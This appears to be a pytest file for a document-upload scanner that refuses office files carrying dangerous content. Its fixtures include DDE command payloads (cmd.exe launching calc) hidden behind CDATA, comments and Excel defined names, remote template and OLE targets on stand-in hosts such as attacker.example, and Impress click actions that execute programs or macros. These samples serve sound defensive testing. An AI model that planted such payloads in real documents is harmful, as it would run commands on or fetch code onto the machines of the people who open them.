"""The evidence intake reads office documents' XML parts as an XML parser does (ADR 24): an
attribute value may hold `>`, an element's text may be a CDATA section or be split by a comment,
and a part that is not well-formed is refused (422), never a server error. What is taken: a
local letterhead template, Impress's navigation on a click."""

from __future__ import annotations

import io
import random
import zipfile
from pathlib import Path

import pytest

from tests import evidence_files as files
from tradehall.membership.evidence.inspection import budget

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _rels(*relationships: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">'
        + "".join(relationships)
        + "</Relationships>"
    ).encode()


def _relationship(kind: str, target: str) -> str:
    return (
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    )


_inspect, _refusal = files.inspected, files.refusal


# --- 1. `>` inside an attribute value ------------------------------------------------------------


def test_an_external_ole_object_whose_target_holds_a_greater_than_sign_is_refused(
    tmp_path: Path,
) -> None:
    rels = _rels(_relationship("oleObject", "http://203.0.113.9/x?a>b"))
    refused = _refusal(tmp_path, files.docx(("word/_rels/document.xml.rels", rels)))
    assert "outside" in refused.reason


def test_a_macro_content_type_behind_a_greater_than_sign_is_refused(tmp_path: Path) -> None:
    types = files.content_types(("/word/document.xml", files.DOCX_MAIN)).replace(
        b"</Types>",
        b'<Default Extension="bin" Note="a>b" '
        b'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    )
    refused = _refusal(tmp_path, files.docx(types=types))
    assert "macros" in refused.reason


# --- 2. DDE behind CDATA or a comment -------------------------------------------------------------

W = files.WORD
DDE_COMMAND = 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'


def _field(code: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _sheet(cell: str) -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1"><c r="A1">{cell}</c></row></sheetData></worksheet>'
    ).encode()
    return files.zip_of(
        [
            ("[Content_Types].xml", files.content_types(("/xl/workbook.xml", files.XLSX_MAIN))),
            ("_rels/.rels", files.RELS),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (files.word(_field(f"<![CDATA[DDEAUTO {DDE_COMMAND}]]>")), "upload.docx"),
        (files.word(_field(f"DD<!-- x -->EAUTO {DDE_COMMAND}")), "upload.docx"),
        (files.word(_field(f"<?pi x?>DDE {DDE_COMMAND}")), "upload.docx"),
        (_sheet("<f><![CDATA[cmd|' /C calc'!A0]]></f>"), "upload.xlsx"),
        (_sheet("<f>cmd<!-- -->|' /C calc'!A0</f>"), "upload.xlsx"),
    ],
    ids=["cdata-field", "comment-field", "pi-field", "cdata-formula", "comment-formula"],
)
def test_dde_behind_cdata_or_a_comment_is_refused(tmp_path: Path, data: bytes, name: str) -> None:
    assert "DDE" in _refusal(tmp_path, data, name).reason


# --- 3. templates: a local one is taken, a network one refused -----------------------------------

LOCAL_TEMPLATES = [
    "file:///C:\\Users\\jo\\AppData\\Roaming\\Microsoft\\Templates\\Letterhead.dotx",
    "file:///C:/Users/jo/AppData/Roaming/Microsoft/Templates/Letterhead%20v2.dotx",
    "C:\\Users\\jo\\Documents\\Custom Office Templates\\Letterhead.dotm",
    "d:/templates/letterhead.dot",
]
NETWORK_TEMPLATES = [
    "http://203.0.113.9/t.dotm",
    "HTTPS://203.0.113.9/t.dotm",
    "ftp://203.0.113.9/t.dotm",
    "\\\\203.0.113.9\\share\\t.dotm",
    "\\\\attacker.example@SSL\\DavWWWRoot\\t.dotm",
    "//203.0.113.9/share/t.dotm",
    "file://203.0.113.9/share/t.dotm",
    "file:////203.0.113.9/share/t.dotm",
    "file://C:/t.dotm",
    "\\\\?\\UNC\\203.0.113.9\\share\\t.dotm",
    "\\\\?\\C:\\t.dotm",
    "C:t.dotm",
    "mhtml:http://203.0.113.9/t.mht!x",
    "t.dotm",
]


@pytest.mark.parametrize("target", LOCAL_TEMPLATES)
def test_a_document_made_from_a_local_template_is_taken(tmp_path: Path, target: str) -> None:
    rels = _rels(_relationship("attachedTemplate", target))
    assert _inspect(tmp_path, files.docx(("word/_rels/settings.xml.rels", rels))) == "docx"


@pytest.mark.parametrize("target", NETWORK_TEMPLATES)
def test_a_template_anywhere_but_a_local_drive_is_refused(tmp_path: Path, target: str) -> None:
    rels = _rels(_relationship("attachedTemplate", target))
    refused = _refusal(tmp_path, files.docx(("word/_rels/settings.xml.rels", rels)))
    assert "outside" in refused.reason


def test_a_local_template_relationship_outside_the_settings_part_is_refused(
    tmp_path: Path,
) -> None:
    """The document's own r:id (an OLE object's, a frame's) resolves in document.xml.rels:
    a local path labelled a template there is not taken."""
    rels = _rels(_relationship("attachedTemplate", LOCAL_TEMPLATES[0]))
    refused = _refusal(tmp_path, files.docx(("word/_rels/document.xml.rels", rels)))
    assert "outside" in refused.reason


@pytest.mark.parametrize("target", [LOCAL_TEMPLATES[0], "C:\\Users\\Public\\x.html"])
def test_an_ole_object_is_refused_even_at_a_local_path(tmp_path: Path, target: str) -> None:
    rels = _rels(_relationship("oleObject", target))
    refused = _refusal(tmp_path, files.docx(("word/_rels/document.xml.rels", rels)))
    assert "outside" in refused.reason


def test_an_internal_relationship_whose_target_names_the_network_is_refused(
    tmp_path: Path,
) -> None:
    rels = _rels(
        f'<Relationship Id="rId1" Type="{OFFICE}/oleObject" Target="http://203.0.113.9/x.html!"/>'
    )
    refused = _refusal(tmp_path, files.docx(("word/_rels/document.xml.rels", rels)))
    assert "outside" in refused.reason


def test_a_relationship_with_two_readings_of_its_mode_is_refused(tmp_path: Path) -> None:
    """Office reads the unprefixed TargetMode; a prefixed twin saying otherwise hid it."""
    rels = _rels(
        f'<Relationship xmlns:x="urn:x" Id="rId1" Type="{OFFICE}/oleObject" '
        'Target="http://203.0.113.9/x.html!" TargetMode="External" x:TargetMode="Internal"/>'
    )
    assert _refusal(tmp_path, files.docx(("word/_rels/document.xml.rels", rels)))


# --- 4. Impress: navigation on a click is taken, what runs or reaches out is refused --------------

NAMESPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
ODP = "application/vnd.oasis.opendocument.presentation"


def _odp(listener: str) -> bytes:
    content = (
        f"<office:document-content {NAMESPACES}><office:body><office:presentation>"
        '<draw:page draw:name="Slide 1"><draw:custom-shape><office:event-listeners>'
        f"{listener}</office:event-listeners></draw:custom-shape></draw:page>"
        "</office:presentation></office:body></office:document-content>"
    ).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", ODP, compress_type=zipfile.ZIP_STORED)
        package.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        package.writestr("META-INF/manifest.xml", b"<manifest:manifest/>")
    return out.getvalue()


def _click(action: str, extra: str = "", children: str = "") -> str:
    return (
        '<presentation:event-listener script:event-name="dom:click" '
        f'presentation:action="{action}" {extra}>{children}</presentation:event-listener>'
    )


@pytest.mark.parametrize(
    "listener",
    [
        _click("next-page"),
        _click("previous-page"),
        _click("first-page"),
        _click("last-page"),
        _click("stop"),
        _click("hide"),
        _click("none"),
        _click("fade-out"),
        _click("show", 'xlink:href="#Slide 3" xlink:type="simple"'),
        _click("sound", children='<presentation:sound xlink:href="Media/chime.wav"/>'),
    ],
    ids=lambda listener: listener.split('action="')[1].split('"')[0],
)
def test_a_presentation_that_navigates_on_a_click_is_taken(tmp_path: Path, listener: str) -> None:
    assert _inspect(tmp_path, _odp(listener), "upload.odp") == "odp"


@pytest.mark.parametrize(
    "listener",
    [
        _click("execute", 'xlink:href="file:///C:/Windows/System32/calc.exe"'),
        _click("verb", 'presentation:verb="0"'),
        _click("show", 'xlink:href="https://203.0.113.9/other.odp"'),
        _click("show", 'xlink:href="../other.odp"'),
        _click("show", 'xlink:href="\\\\203.0.113.9\\share\\x.odp"'),
        _click("show", 'xlink:href="vnd.sun.star.script:LibreLogo|LibreLogo.py$run"'),
        _click("next-page", 'xlink:href="MACRO:///Standard.Module1.Main"'),
        _click("sound", children='<presentation:sound xlink:href="http://203.0.113.9/a.wav"/>'),
        _click("something-new"),
        '<presentation:event-listener script:event-name="dom:click" presentation:action="next-page"'
        ' xmlns:p="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" p:action="execute"/>',
        '<script:event-listener script:language="ooo:script" script:event-name="dom:click" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=application"/>',
        '<p:event-listener xmlns:p="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'p:event-name="dom:click" presentation:action="next-page"/>',
    ],
    ids=[
        "execute",
        "verb",
        "web-document",
        "document-beside",
        "unc-document",
        "script-href",
        "macro-href",
        "remote-sound",
        "unknown-action",
        "two-actions",
        "script-listener",
        "script-listener-renamed",
    ],
)
def test_a_presentation_that_runs_or_reaches_out_on_a_click_is_refused(
    tmp_path: Path, listener: str
) -> None:
    refused = _refusal(tmp_path, _odp(listener), "upload.odp")
    assert "macros or scripts" in refused.reason


# --- malformed parts: 422, never a 500 ------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (files.docx(("word/_rels/document.xml.rels", b"<Relationships><Relationship")), "x.docx"),
        (files.docx(types=files.content_types() + b"<"), "x.docx"),
        (files.word("<w:r><w:t>unclosed</w:r>"), "x.docx"),
        (files.word("<w:r><w:t>&undefined;</w:t></w:r>"), "x.docx"),
        (_sheet("<f>SUM(A1</c>"), "x.xlsx"),
        (
            files.odt(content=b"<office:document-content><text:p></office:document-content>"),
            "x.odt",
        ),
        (files.odt(content=b"\xff\xfe\x00garbage"), "x.odt"),
        (files.odt(content="<a/>".encode("utf-16") + b"\x00"), "x.odt"),
        (files.odt(content=b'<?xml version="1.0" encoding="x-nonesuch"?><a/>'), "x.odt"),
    ],
    ids=[
        "rels",
        "content-types",
        "word",
        "undefined-entity",
        "sheet",
        "odt",
        "odt-bad-encoding",
        "odt-odd-length-utf-16",
        "odt-unknown-encoding",
    ],
)
def test_a_malformed_xml_part_is_refused_not_a_server_error(
    tmp_path: Path, data: bytes, name: str
) -> None:
    _refusal(tmp_path, data, name)


@pytest.mark.parametrize(
    "part",
    [
        ("word/_rels/document.xml.rels", b'<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>'),
        ("word/_rels/document.xml.rels", b'<!DOCTYPE Relationships SYSTEM "http://x/r.dtd"><R/>'),
        ("word/header1.xml", b"<!DOCTYPE d><w:hdr/>"),
    ],
    ids=["rels-entity", "rels-external-dtd", "word-dtd"],
)
def test_a_dtd_in_an_ooxml_part_is_refused(tmp_path: Path, part: tuple[str, bytes]) -> None:
    assert "DTD" in _refusal(tmp_path, files.docx(part)).reason


# --- what else runs or reaches out: Excel's other formulas, embedded ODF objects ------------------


def _workbook(workbook: str, sheet: str = "<sheetData/>") -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return files.zip_of(
        [
            ("[Content_Types].xml", files.content_types(("/xl/workbook.xml", files.XLSX_MAIN))),
            ("_rels/.rels", files.RELS),
            ("xl/workbook.xml", f"<workbook {main}>{workbook}</workbook>".encode()),
            ("xl/worksheets/sheet1.xml", f"<worksheet {main}>{sheet}</worksheet>".encode()),
        ]
    )


CELL_USING_NAME = '<sheetData><row r="1"><c r="A1"><f>Go</f></c></row></sheetData>'


@pytest.mark.parametrize(
    "data",
    [
        # A defined name holding the DDE call, used by a cell whose own formula has no '|'.
        _workbook(
            "<definedNames><definedName name=\"Go\">cmd|' /C calc'!A0</definedName></definedNames>",
            CELL_USING_NAME,
        ),
        # Conditional formatting and data validation formulas are evaluated as Excel draws.
        _workbook(
            "",
            '<sheetData/><conditionalFormatting sqref="A1"><cfRule type="expression" '
            "priority=\"1\"><formula>cmd|' /C calc'!A0</formula></cfRule></conditionalFormatting>",
        ),
        _workbook(
            "",
            '<sheetData/><dataValidations count="1"><dataValidation type="custom" sqref="A1">'
            "<formula1>cmd|' /C calc'!A0</formula1></dataValidation></dataValidations>",
        ),
    ],
    ids=["defined-name", "conditional-format", "data-validation"],
)
def test_dde_in_any_excel_formula_is_refused(tmp_path: Path, data: bytes) -> None:
    assert "DDE" in _refusal(tmp_path, data, "upload.xlsx").reason


def test_a_workbook_with_ordinary_names_and_rules_is_taken(tmp_path: Path) -> None:
    data = _workbook(
        "<definedNames><definedName name=\"Budget\">'Budget 2026'!$A$1:$B$9</definedName>"
        "</definedNames>",
        '<sheetData/><dataValidations count="1"><dataValidation type="list" sqref="A1">'
        '<formula1>"Yes,No"</formula1></dataValidation></dataValidations>',
    )
    assert _inspect(tmp_path, data, "upload.xlsx") == "xlsx"


def test_an_excel_4_macro_sheet_in_a_workbook_is_refused(tmp_path: Path) -> None:
    types = files.content_types(
        ("/xl/workbook.xml", files.XLSX_MAIN),
        ("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"),
    )
    data = files.zip_of(
        [
            ("[Content_Types].xml", types),
            ("_rels/.rels", files.RELS),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        ]
    )
    assert "macro" in _refusal(tmp_path, data, "upload.xlsx").reason


def test_a_field_code_of_many_runs_is_read_whole(tmp_path: Path) -> None:
    """The code is kept only as far as its name: long leading space, then DDE, is still DDE."""
    runs = "".join("<w:r><w:instrText> </w:instrText></w:r>" for _ in range(2000))
    body = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{runs}<w:r><w:instrText>dd</w:instrText></w:r><w:r><w:instrText>e {DDE_COMMAND}"
        "</w:instrText></w:r>" + "<w:r><w:instrText>x</w:instrText></w:r>" * 2000
    )
    assert "DDE" in _refusal(tmp_path, files.word(body)).reason
    long_name = (
        "<w:r><w:instrText>DDE</w:instrText></w:r>"
        + "<w:r><w:instrText>X</w:instrText></w:r>" * 100
    )
    ordinary = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + long_name
        + ('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    )
    assert _inspect(tmp_path, files.word(ordinary)) == "docx"


ODT = "application/vnd.oasis.opendocument.text"


def test_a_script_in_an_embedded_odf_object_is_refused(tmp_path: Path) -> None:
    listener = (
        f'<office:document-content {NAMESPACES}><script:event-listener script:language="ooo:script"'
        ' script:event-name="dom:click" xlink:href="vnd.sun.star.script:Standard.M.Main?'
        'language=Basic&amp;location=application"/></office:document-content>'
    )
    data = files.odt(("Object 1/content.xml", listener.encode()))
    assert "macros or scripts" in _refusal(tmp_path, data, "upload.odt").reason


def test_ordinary_text_about_macros_in_an_odf_attribute_is_taken(tmp_path: Path) -> None:
    content = (
        f"<office:document-content {NAMESPACES}><office:body><office:text>"
        '<text:p xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'text:style-name="Macro: notes">See <text:a xlink:href="https://example.org/#macro:">'
        "the guide</text:a></text:p></office:text></office:body></office:document-content>"
    )
    assert _inspect(tmp_path, files.odt(content=content.encode()), "upload.odt") == "odt"


@pytest.mark.parametrize("main", ["evil/main.xml", "word/document.dat"])
def test_dde_in_a_main_part_outside_word_is_refused(tmp_path: Path, main: str) -> None:
    """Word opens the part [Content_Types].xml declares as the document, wherever it is and
    whatever its name ends with; a harmless word/document.xml beside it is what libmagic sees."""
    document = f"<w:document {W}><w:body><w:p>{_field(f'DDEAUTO {DDE_COMMAND}')}</w:p></w:body>"
    data = files.docx(
        (main, f"{document}</w:document>".encode()),
        types=files.content_types((f"/{main}", files.DOCX_MAIN)),
    )
    assert "DDE" in _refusal(tmp_path, data).reason


def test_a_field_code_holding_a_stray_element_is_refused(tmp_path: Path) -> None:
    # A code is text: an element inside one may be read otherwise, or dropped with its text.
    code = f'<w:fldSimple w:instr="PAGE"/>DDEAUTO {DDE_COMMAND}'
    assert "Word may read otherwise" in _refusal(tmp_path, files.word(_field(code))).reason


# --- 5. What one document may cost to parse ----------------------------------------------------


def _header(size: int) -> bytes:
    """A header part of about `size` bytes of tiny elements, with enough noise in them that the
    package is not refused as a zip bomb first."""
    count = size // 25
    noise = random.Random(size).randbytes(4 * count).hex()
    paragraphs = "".join(f'<w:p w:rsidR="{noise[i : i + 8]}"/>' for i in range(0, 8 * count, 8))
    return f"<w:hdr {W}>{paragraphs}</w:hdr>".encode()


# The budget the two tests below spend: the document's parts are counted together the same way
# at any size, so a smaller one shows it without parsing 32 MiB (20 s of the suite's time).
SMALL_BUDGET = 3 * 1024 * 1024


def test_a_document_whose_xml_parts_together_pass_the_parsing_budget_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each part is under its own bound, but together they would hold the interpreter for tens
    of seconds; they are refused before the excess is parsed."""
    monkeypatch.setattr(budget, "MAX_XML_BYTES", SMALL_BUDGET)
    part = _header(SMALL_BUDGET * 3 // 8)
    headers = [(f"word/header{n}.xml", part) for n in (1, 2, 3)]
    refused = _refusal(tmp_path, files.docx(*headers))
    assert "to check" in refused.reason
    # Two of them are within it: the third is what is refused.
    assert _inspect(tmp_path, files.docx(*headers[:2])) == "docx"


def test_a_document_within_the_parsing_budget_is_taken(tmp_path: Path) -> None:
    assert _inspect(tmp_path, files.docx(("word/header1.xml", _header(2 * 1024 * 1024)))) == "docx"


def test_relationship_parts_count_toward_the_parsing_budget(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each .rels part is read under its own 1 MiB bound, but any number of them could be."""
    monkeypatch.setattr(budget, "MAX_XML_BYTES", SMALL_BUDGET)
    relationships = _header(1024 * 1024 - 4096).replace(b"w:hdr", b"Relationships")
    parts = [(f"word/_rels/part{n}.xml.rels", relationships) for n in range(4)]
    refused = _refusal(tmp_path, files.docx(*parts))
    assert "to check" in refused.reason


MATH = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'


def test_an_equation_with_a_bar_in_a_fraction_is_taken(tmp_path: Path) -> None:
    """Office Math's fraction is <m:f>: P(A|B) over P(B) is not an Excel formula."""
    fraction = (
        f"<m:oMath {MATH}><m:f><m:num><m:r><m:t>P(A|B)</m:t></m:r></m:num>"
        "<m:den><m:r><m:t>P(B)</m:t></m:r></m:den></m:f></m:oMath>"
    )
    assert _inspect(tmp_path, files.word(fraction)) == "docx"


def test_a_formula_in_the_spreadsheet_namespace_is_still_read(tmp_path: Path) -> None:
    refused = _refusal(tmp_path, _sheet("<f>cmd|' /C calc'!A0</f>"), "upload.xlsx")
    assert "DDE" in refused.reason
